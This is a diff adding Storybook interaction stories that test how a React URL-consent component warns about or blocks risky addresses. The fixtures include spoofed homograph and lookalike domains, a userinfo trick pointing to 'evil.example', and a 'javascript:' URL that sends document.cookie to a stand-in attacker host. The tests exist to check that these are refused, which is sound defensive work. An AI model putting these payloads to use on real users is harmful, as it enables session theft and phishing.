@@ -1,0 +1,201 @@
+import { expect, fn, waitFor } from 'storybook/test';
+import { UrlConsent } from 'react-mcp-elicitation';
+import { disableConsentGuard } from 'react-mcp-elicitation/testing';
+import preview from '../../.storybook/preview.tsx';
+
+const server = { name: 'GitHub', url: 'https://mcp.github.com/sse' };
+
+const ask = (url: string, elicitationId?: string) => ({
+  mode: 'url' as const,
+  message: 'Connect your account, so that issues can be listed in this chat.',
+  url,
+  ...(elicitationId !== undefined && { elicitationId }),
+});
+
+const meta = preview.meta({
+  title: 'Url/Consent',
+  component: UrlConsent,
+  args: { server, onRespond: fn(), onDismiss: fn(), openUrl: fn(), request: ask('') },
+});
+
+/** An ordinary address: the whole of it, and its registrable domain emphasised. */
+export const Https = meta.story({
+  args: {
+    request: ask(
+      'https://login.github.com/oauth/authorize?client_id=Iv1.8a61f9b3a7aba766&scope=repo%20read%3Aorg&state=7f3c',
+    ),
+  },
+  play: async ({ canvas, canvasElement }) => {
+    await expect(await canvas.findByText('github')).toBeVisible();
+    await expect(canvas.queryByRole('link')).toBeNull();
+    await expect(canvasElement.querySelector('[data-slot=elicitation-findings]')).toBeNull();
+  },
+});
+
+/** Not encrypted: danger, so a box has to be ticked first. */
+export const Http = meta.story({
+  args: { request: ask('http://login.example.com/start') },
+  play: async ({ canvas, userEvent, args }) => {
+    const restore = disableConsentGuard();
+    await expect(await canvas.findByText(/not encrypted/)).toBeVisible();
+    await userEvent.click(canvas.getByRole('button', { name: 'Open' }));
+    await expect(await canvas.findByText('Tick the box above first.')).toBeVisible();
+    await expect(args.openUrl).not.toHaveBeenCalled();
+    restore();
+  },
+});
+
+/** A program on the person's own computer: a quiet note. */
+export const Localhost = meta.story({
+  args: { request: ask('http://localhost:8976/callback') },
+  play: async ({ canvas }) => {
+    await expect(await canvas.findByText(/your own computer/)).toBeVisible();
+  },
+});
+
+/** A bare number instead of a name. */
+export const IpAddress = meta.story({
+  args: { request: ask('https://93.184.216.34/setup') },
+  play: async ({ canvas }) => {
+    await expect(await canvas.findByText(/bare number/)).toBeVisible();
+  },
+});
+
+/** An honest internationalised domain: in its own letters, with its ASCII form beside it, and no alarm. */
+export const PunycodeHonest = meta.story({
+  args: { request: ask('https://konto.bücher.example/anmelden') },
+  play: async ({ canvas, canvasElement }) => {
+    await expect(await canvas.findByText(/Its ASCII form is/)).toBeVisible();
+    await expect(canvas.getByText('bücher')).toBeVisible();
+    await expect(canvasElement.querySelector('[data-slot=elicitation-findings]')).toBeNull();
+  },
+});
+
+/** Cyrillic letters throughout that read as Latin ones: shown in ASCII, and called what it is. */
+export const PunycodeSpoofed = meta.story({
+  args: { request: ask('https://аррӏе.com/login') },
+  play: async ({ canvas }) => {
+    await expect(
+      await canvas.findByRole('alert', { name: 'This address is not safe' }),
+    ).toBeVisible();
+    await expect(canvas.getByText('xn--80ak6aa92e')).toBeVisible();
+  },
+});
+
+/** Letters of two alphabets in one name. */
+export const MixedScript = meta.story({
+  args: { request: ask('https://pаypal.com/login') },
+  play: async ({ canvas }) => {
+    await expect(await canvas.findByText(/mixes letters of different alphabets/)).toBeVisible();
+  },
+});
+
+/** What stands before the @ is no host: this is not opened at all. */
+export const Userinfo = meta.story({
+  args: { request: ask('https://github.com@evil.example/login') },
+  play: async ({ canvas }) => {
+    await expect(await canvas.findByText('This address cannot be opened')).toBeVisible();
+    await expect(canvas.queryByRole('button', { name: 'Open' })).toBeNull();
+  },
+});
+
+/** One letter from the domain of the server that asks. */
+export const LookalikeOfTheServer = meta.story({
+  args: { request: ask('https://login.githup.com/oauth') },
+  play: async ({ canvas }) => {
+    await expect(await canvas.findByText(/It looks like/)).toBeVisible();
+  },
+});
+
+/** Under a suffix where anybody can put pages. */
+export const SharedHosting = meta.story({
+  args: { request: ask('https://my-app.vercel.app/connect') },
+  play: async ({ canvas }) => {
+    await expect(await canvas.findByText(/Anybody can put pages/)).toBeVisible();
+  },
+});
+
+/** Characters that cannot be seen: spelled where the address is shown as it was sent. */
+export const HiddenCharacters = meta.story({
+  args: { request: ask('https://example.com/\u202egpj.tnemecnuonna') },
+  play: async ({ canvas }) => {
+    await expect(await canvas.findByText(/⟨U\+202E⟩/)).toBeVisible();
+  },
+});
+
+/** A right-to-left name between left-to-right ones: no label changes its place. */
+export const RightToLeftHost = meta.story({
+  args: { request: ask('https://login.דוגמה-טובה.example/') },
+  play: async ({ canvas }) => {
+    await expect(await canvas.findByText('דוגמה-טובה')).toBeVisible();
+  },
+});
+
+/** Two thousand characters: all of them are there, in a box that scrolls. */
+export const LongQuery = meta.story({
+  args: {
+    request: ask(`https://login.example.com/authorize?state=${'0123456789abcdef'.repeat(125)}`),
+  },
+  play: async ({ canvas }) => {
+    const address = await canvas.findByRole('group', { name: 'Full address' });
+    await expect(address.textContent).toHaveLength(2042);
+    await expect(address.scrollHeight).toBeGreaterThan(address.clientHeight);
+  },
+});
+
+/** What is no page of the web is never opened. */
+export const RefusedScheme = meta.story({
+  args: { request: ask('javascript:fetch("https://evil.example/?c=" + document.cookie)') },
+  play: async ({ canvas }) => {
+    await expect(await canvas.findByText(/Only pages of the web/)).toBeVisible();
+    await expect(canvas.queryByRole('button', { name: 'Open' })).toBeNull();
+  },
+});
+
+/** Nothing was opened: the request still waits. */
+export const PopupBlocked = meta.story({
+  args: { request: ask('https://login.example.com/', 'e1'), openUrl: fn(() => false) },
+  play: async ({ canvas, userEvent, args }) => {
+    const restore = disableConsentGuard();
+    await canvas.findByText('example');
+    const open = await canvas.findByRole('button', { name: 'Open' });
+    await waitFor(() => expect(open).toHaveAttribute('aria-disabled', 'false'));
+    await userEvent.click(open);
+    await expect(await canvas.findByText(/the browser blocked it/)).toBeVisible();
+    await expect(canvas.getByRole('button', { name: 'Try again' })).toBeVisible();
+    await expect(args.onRespond).not.toHaveBeenCalled();
+    restore();
+  },
+});
+
+/** The page is open elsewhere; accept is sent. */
+export const Waiting = meta.story({
+  args: { request: ask('https://login.example.com/', 'e1'), isAnswered: true },
+  play: async ({ canvas }) => {
+    await expect(await canvas.findByText(/open in another tab/)).toBeVisible();
+    await expect(canvas.queryByRole('button', { name: 'Decline' })).toBeNull();
+  },
+});
+
+/** Revision 2026-07-28: accept is sent when the person says that it is done. */
+export const WaitingToFinish = meta.story({
+  args: { request: ask('https://login.example.com/') },
+  play: async ({ canvas, userEvent, args }) => {
+    const restore = disableConsentGuard();
+    const open = await canvas.findByRole('button', { name: 'Open' });
+    await waitFor(() => expect(open).toHaveAttribute('aria-disabled', 'false'));
+    await userEvent.click(open);
+    await expect(args.openUrl).toHaveBeenCalledWith('https://login.example.com/');
+    await expect(await canvas.findByRole('button', { name: 'I have finished' })).toBeVisible();
+    await expect(args.onRespond).not.toHaveBeenCalled();
+    restore();
+  },
+});
+
+/** The server has said that the page is done. */
+export const Completed = meta.story({
+  args: { request: ask('https://login.example.com/', 'e1'), isAnswered: true, isCompleted: true },
+  play: async ({ canvas }) => {
+    await expect(await canvas.findByText(/The page is done/)).toBeVisible();
+  },
+});
